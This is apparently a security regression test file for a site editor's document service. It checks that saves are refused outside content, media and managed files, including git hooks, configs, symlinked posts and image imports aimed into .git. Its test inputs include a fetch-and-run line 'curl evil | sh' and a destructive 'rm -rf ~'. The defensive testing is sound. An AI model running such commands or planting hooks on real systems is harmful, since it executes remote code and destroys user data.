import { existsSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importImage, planImageImport } from '../../authoring/image-import';
import { createDocumentService, type DocumentService } from '../../documents/document-service';
import { loadSite } from '../../site/load-site';
import type { SiteModel } from '../../site/site-model';
import { copyFixture, POST, read, removeCopies, write } from '../../site/testing/site-fixture';
import { writeAreasOf } from '../write-policy';

/**
 * Fault matrix, item 4: the API could write any file of the site, `.git/hooks/pre-commit`
 * (run on the next commit) included. Writes now go only to the content collections' entries,
 * the media folder and the files Postdesk manages (`public/_redirects`).
 */
let root: string;
let site: SiteModel;
let documents: DocumentService;
const POST_FILE = `${POST}/2023-09-30-september-2023-update.md`;

beforeAll(async () => {
  root = copyFixture();
  write(root, '.git/hooks/pre-commit', '#!/bin/sh\nexit 0\n');
  write(root, '.git/config', '[core]\n');
  write(root, 'astro.config.mjs', 'export default {};\n');
  write(root, 'package.json', '{}\n');
  site = await loadSite(root, { workers: 0 });
  documents = createDocumentService(site);
});

afterAll(() => {
  site?.dispose();
  removeCopies();
});

const NEVER = [
  '.git/hooks/pre-commit',
  '.git/config',
  '.github/workflows/deploy.yml',
  'astro.config.mjs',
  'package.json',
  'tsconfig.json',
  'src/content/config.ts',
  'node_modules/astro/index.js',
  'src/pages/index.astro',
  'src/components/Widget.astro',
  'public/evil.html',
  'src/data/post/notes.txt',
  'README.md',
];

describe('fault matrix 4: writes only to content, media and managed files', () => {
  it.each(NEVER)('doc.save refuses %s and leaves it as it was', async (file) => {
    const before = existsSync(path.join(root, file)) ? read(root, file) : null;
    await expect(documents.save(file, '#!/bin/sh\ncurl evil | sh\n', null, true)).rejects.toMatchObject({ code: 'read-only' });
    expect(existsSync(path.join(root, file)) ? read(root, file) : null).toBe(before);
  });

  it('a post that is a link to the pre-commit hook is refused like the hook itself', async () => {
    symlinkSync(path.join(root, '.git/hooks/pre-commit'), path.join(root, POST, '2024-05-05-hook.md'));
    await expect(documents.save(`${POST}/2024-05-05-hook.md`, 'rm -rf ~\n', null, true)).rejects.toMatchObject({ code: 'read-only', message: expect.stringContaining('.git/hooks/pre-commit') });
    expect(read(root, '.git/hooks/pre-commit')).toBe('#!/bin/sh\nexit 0\n');
    const opened = await documents.open(`${POST}/2024-05-05-hook.md`);
    expect(opened).toMatchObject({ readOnly: true, readOnlyReason: expect.stringContaining('hidden') });
  });

  it('opens a file it would not save (the site config) read-only, saying why', async () => {
    const opened = await documents.open('astro.config.mjs');
    expect(opened).toMatchObject({ readOnly: true, readOnlyReason: expect.stringContaining('code or configuration') });
  });

  it('still saves posts, and the redirects it manages (doors that stay open)', async () => {
    const opened = await documents.open(POST_FILE);
    expect(opened.readOnly).toBe(false);
    await expect(documents.save(POST_FILE, `${opened.text}\nOne more line.\n`, opened.hash, false)).resolves.toMatchObject({ status: 'saved' });
    expect(read(root, POST_FILE)).toBe(`${opened.text}\nOne more line.\n`);
    const redirects = await documents.open('public/_redirects');
    expect(redirects.readOnly).toBe(false);
    await expect(documents.save('public/_redirects', `${redirects.text}/old /new 301\n`, redirects.hash, false)).resolves.toMatchObject({ status: 'saved' });
  });

  it('an image import refuses a media folder (from the CMS config) that points into .git', () => {
    const areas = { ...writeAreasOf(site), mediaFolders: ['.git/hooks'] };
    const plan = planImageImport({ root, mediaFolder: '.git/hooks', postFile: POST_FILE, originalName: 'pre-commit.png', now: new Date('2026-01-01') });
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
    expect(() => importImage(areas, plan, png)).toThrow(/hidden/);
    expect(existsSync(path.join(root, '.git/hooks/2026'))).toBe(false);
  });
});
